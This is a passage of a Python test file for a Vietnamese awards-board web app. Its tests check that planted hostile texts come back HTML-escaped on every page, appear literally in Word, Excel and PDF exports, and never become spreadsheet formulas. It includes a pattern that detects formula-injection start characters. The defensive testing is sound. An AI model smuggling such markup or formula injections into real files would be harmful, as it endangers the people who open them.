    return {"after upload": reporter.get(sent.location).get_data(as_text=True)}


@pytest.fixture
def hostile_world(demo_reports, as_user, upload_dir):
    demo_reports.config["NTM_TODAY"] = BOARD_DAY
    ids = _plant_hostile_texts()
    pages = _upload_with_a_hostile_name(as_user, ids)
    coordinator = as_user("nnptnt")
    reminded = post(coordinator, f"/units/{ids['unit']}/remind", {"which": "meeting"}, follow_redirects=True)
    pages["after remind"] = reminded.get_data(as_text=True)
    pages.update(_run_the_session(as_user, ids))
    return ids, pages


def _crawl(as_user, ids) -> dict[str, str]:
    """Every page that shows the hostile texts, as the people who read them."""
    s, n, u, r = ids["session"], ids["nomination"], ids["unit"], ids["returned_unit"]
    plan = {
        "admin": ["/home/admin", "/admin/units", "/admin/users", f"/admin/units/{u}/edit",
                  f"/admin/users/{factories.user_id('chutich')}/edit", "/admin/audit", "/campaigns",
                  f"/campaigns/{ids['campaign']}", f"/admin/campaigns/{ids['campaign']}/edit"],
        "nnptnt": ["/home/coordinator", "/board?state=overdue", f"/units/{u}", f"/units/{u}/report",
                   f"/units/{r}/report", "/totals", "/board"],  # the last one also as the htmx fragment
        "bc-19567": ["/home/reporter", f"/units/{u}", f"/units/{u}/report", "/notifications", "/nominations",
                     "/awards"],
        ids["returned_reporter"]: [f"/units/{r}/report"],
        ids["returned_nomination_reporter"]: [f"/nominations/{ids['returned_nomination']}"],
        "noivu": ["/home/secretary", "/nominations", "/nominations?status=eligible", f"/nominations/{n}",
                  "/board-config", f"/board-config/forms/{_one(Nomination, id=n).form_id}", "/sessions",
                  f"/sessions/{s}", f"/sessions/{s}/results", f"/sessions/{s}/live", "/sessions/new"],
        "thanhvien1": ["/home/member", f"/sessions/{s}"],
        "chutich": ["/home/chair", "/awards", f"/sessions/{s}/results", "/board", "/totals"],
    }
    pages = {}
    for username, urls in plan.items():
        client = as_user(username)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (username, url, response.status_code)
            pages[f"{username} {url}"] = response.get_data(as_text=True)
        fragment = client.get(urls[-1], headers={"HX-Request": "true"})
        pages[f"{username} {urls[-1]} (htmx)"] = fragment.get_data(as_text=True)
    return pages


# Where each hostile text must be seen (escaped), beyond "somewhere": page key fragments.
SHOWN_ON = {
    "unit": ["admin /admin/units", "nnptnt /board", "nnptnt /totals", "bc-19567 /home/reporter"],
    "returned_unit": ["nnptnt /board"],
    "chair": ["admin /admin/users", "noivu /board-config", "chutich /home/chair"],
    "member": ["noivu /board-config", "noivu /sessions/"],
    "campaign": ["admin /campaigns"],
    "nomination": ["noivu /nominations", "chutich /awards", "ballot"],
    "summary": ["noivu /nominations/", "chutich /awards"],
    "form": ["noivu /board-config", "chutich /awards"],
    "session": ["noivu /sessions", "thanhvien1 /sessions/"],
    "place": ["noivu /sessions/"],
    "review": ["/report"],
    "strike": ["after strike"],
    "decision_number": ["bc-19567 /awards"],
    "uploaded_name": ["after upload"],
    "nomination_file_name": ["noivu /nominations/"],
    "screening_note": ["/nominations/"],
    "criterion": ["ballot", "noivu /board-config"],
}


def test_hostile_text_is_escaped_in_every_page_that_shows_it(hostile_world, as_user):
    ids, pages = hostile_world
    pages.update(_crawl(as_user, ids))
    for where, html in pages.items():
        assert_no_raw_payload(html, where)
    everything = "\n".join(pages.values())
    missing = [field for field, text in TEXTS.items() if escaped(text) not in everything]
    assert missing == [], f"never shown (escaped) on any page: {missing}"
    not_shown = []
    for field, keys in SHOWN_ON.items():
        for key in keys:
            matching = [html for where, html in pages.items() if key in where]
            assert matching, f"no page {key!r}"
            if not any(escaped(TEXTS[field]) in html for html in matching):
                not_shown.append(f"{field} on {key}")
    assert not_shown == []


# Exports -----------------------------------------------------------------------------------------------

def _docx_text(data: bytes) -> str:
    doc = Document(io.BytesIO(data))
    parts = [p.text for p in doc.paragraphs]
    parts += [c.text for t in doc.tables for row in t.rows for c in row.cells]
    parts += [p.text for section in doc.sections for part in (section.header, section.footer)
              for p in part.paragraphs]
    return "\n".join(parts)


def _pdf_text(data: bytes) -> str:
    assert data.startswith(b"%PDF-")
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler-utils) is needed to read the PDF back")
    # -raw: in the order drawn, so a table cell's lines stay together instead of interleaving with its row
    return subprocess.run(["pdftotext", "-raw", "-enc", "UTF-8", "-", "-"], input=data, capture_output=True,
                          check=True).stdout.decode("utf-8")


def _squeeze(text: str) -> str:
    """Without any whitespace: a PDF or Word line break may fall anywhere in a long text."""
    return "".join(text.split())


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_INTENDED_FORMULA = re.compile(r"=SUM\((?:[A-Z]+\d+(?::[A-Z]+\d+)?)(?:,[A-Z]+\d+(?::[A-Z]+\d+)?)*\)")


def assert_no_formula_but_totals(data: bytes, where: str) -> list:
    """No cell is a formula unless it is one of the export's own SUM totals; no text starts like a formula.

    Returns every cell value, for the caller's checks."""
    values = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                values.append(cell.value)
                if cell.data_type == "f":
                    assert _INTENDED_FORMULA.fullmatch(str(cell.value)), f"{where} {cell.coordinate}: {cell.value!r}"
                elif isinstance(cell.value, str):
                    assert not cell.value.startswith(_FORMULA_START), f"{where} {cell.coordinate}: {cell.value!r}"
    return values


def assert_in_sheet(values: list, text: str, where: str) -> None:
    """The text, literal, in a cell: the cell itself when it starts with it (guarded by ') or inside one."""
    strings = [v for v in values if isinstance(v, str)]
    if text.startswith(_FORMULA_START):
        assert "'" + text in strings or any(("'" + text) in v or (text in v and not v.startswith(text))
                                            for v in strings), f"{where}: {text!r}"
    else:
        assert any(text in v for v in strings), f"{where}: {text!r}"


AWARD_LIST_FIELDS = ["nomination", "summary", "form", "signer", "decision_number"]


# export -> (who downloads it, url, the fields it must show)
def _exports(ids) -> dict[str, tuple[str, str, list[str]]]:
    s, a = ids["session"], ids["award_list"]
    return {
        "board.xlsx": ("nnptnt", "/board.xlsx", ["unit", "returned_unit", "campaign"]),
        "totals.xlsx": ("nnptnt", "/totals.xlsx", ["unit", "campaign"]),
        "totals.docx": ("nnptnt", "/totals.docx", ["unit"]),
        "outline.docx": ("bc-19567", f"/units/{ids['unit']}/report/outline.docx", ["unit"]),
        "achievement.docx": ("noivu", f"/nominations/{ids['nomination']}/achievement.docx",
                             ["nomination", "position", "address", "summary"]),
        "award_list.docx": ("chutich", f"/awards/{a}.docx", AWARD_LIST_FIELDS),
        "award_list.xlsx": ("chutich", f"/awards/{a}.xlsx", AWARD_LIST_FIELDS),
        "award_list.pdf": ("chutich", f"/awards/{a}.pdf", AWARD_LIST_FIELDS),
        "minutes.docx": ("noivu", f"/sessions/{s}/minutes.docx", ["session", "place", "chair", "secretary",
                                                                   "member", "nomination", "form"]),
        "minutes.pdf": ("noivu", f"/sessions/{s}/minutes.pdf", ["session", "place", "chair", "secretary", "member",
                                                                 "nomination", "form"]),
    }


def test_hostile_text_comes_back_literal_in_every_export_and_never_as_a_formula(hostile_world, as_user):
    ids, _pages = hostile_world
    for name, (username, url, fields) in _exports(ids).items():
        response = as_user(username).get(url)
        assert response.status_code == 200, (name, response.status_code)
        assert response.headers["Content-Disposition"].startswith("attachment")
        assert "<" not in response.headers["Content-Disposition"], name
        data = response.data
        if name.endswith(".xlsx"):
            values = assert_no_formula_but_totals(data, name)
            for field in fields:
                assert_in_sheet(values, TEXTS[field], f"{name} {field}")
            continue
        text = _docx_text(data) if name.endswith(".docx") else _pdf_text(data)
        squeezed = _squeeze(text).casefold()  # a heading may print a name in capitals
        for field in fields:
            assert _squeeze(TEXTS[field]).casefold() in squeezed, f"{name}: {field} not literal"
        if name.endswith(".pdf"):
            assert "&lt;" not in text and "&#34;" not in text, f"{name}: escaped twice"
        else:
            assert "&lt;" not in text, f"{name}: escaped twice"


# Imports: what a sheet says is shown back escaped too --------------------------------------------------


def _import(client, kind: str, rows: list[list[str]]):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return post(client, f"/admin/{kind}/import", {"file": (io.BytesIO(out.getvalue().encode("utf-8")), "nhap.csv")},
                content_type="multipart/form-data")


def test_an_imported_sheets_hostile_cells_come_back_escaped_in_its_errors_and_its_result(demo, as_user):
    admin = as_user("admin")
    name, kind = hostile("TENNHAP"), hostile("LOAINHAP")
    refused = _import(admin, "units", [["Mã đơn vị", "Tên đơn vị", "Loại"], ["X1", name, kind]])
    page = refused.get_data(as_text=True)
    assert refused.status_code in (200, 422) and "Chưa nhập gì" in page
    assert_no_raw_payload(page, "units import errors")
    assert escaped(kind) in page

    full_name = hostile("HOTENNHAP")
    imported = _import(admin, "users", [["Tên đăng nhập", "Họ và tên", "Vai trò", "Mã đơn vị"],
                                        ["nhap1", full_name, "reporter", "19567"]])
    page = imported.get_data(as_text=True)
    assert imported.status_code == 200 and "Mật khẩu tạm của các tài khoản mới" in page
    assert_no_raw_payload(page, "users import result")
    assert escaped(full_name) in page
    users = admin.get("/admin/users").get_data(as_text=True)
    assert_no_raw_payload(users, "users after import")
    assert escaped(full_name) in users
